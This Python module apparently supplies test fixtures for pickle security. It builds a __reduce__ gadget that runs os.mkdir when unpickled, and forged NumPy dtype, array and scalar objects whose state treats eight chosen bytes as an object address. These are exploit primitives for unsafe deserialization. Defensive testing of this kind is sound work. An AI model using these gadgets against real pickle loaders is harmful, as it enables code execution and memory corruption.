"""What an attacker puts into a pickle, in a harmless form."""
import os
from pathlib import Path
from typing import Any

import numpy as np


class Hostile:
    """Unpickling it makes a folder at `path`."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


class _Calls:
    """Is pickled as a call, whose result then gets a state."""

    def __init__(self, *call: Any):
        self.call = call

    def __reduce__(self):
        return self.call


def forged_dtype(state: bool = True) -> Any:
    """A NumPy type of 8 bytes, whose state says that these are the address of an object."""
    if not state:
        return _Calls(np.dtype, ([("a", "O")],))
    of_objects = _Calls(np.dtype, ("O", False, True))
    return _Calls(np.dtype, ("S8", False, True), (3, "|", None, ("a",), {"a": (of_objects, 0)}, 8, 1, 0))


def forged_array(dtype: Any, shape: tuple[int, ...] = (1,)) -> Any:
    """An array of NumPy with one element of a `forged_dtype`: whoever looks at it reads from an address in the file."""
    return _Calls(np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), (1, shape, dtype, False, b"A" * 8))


def forged_number(dtype: Any) -> Any:
    """A number of NumPy of a `forged_dtype`."""
    return _Calls(np._core.multiarray.scalar, (dtype, b"A" * 8))
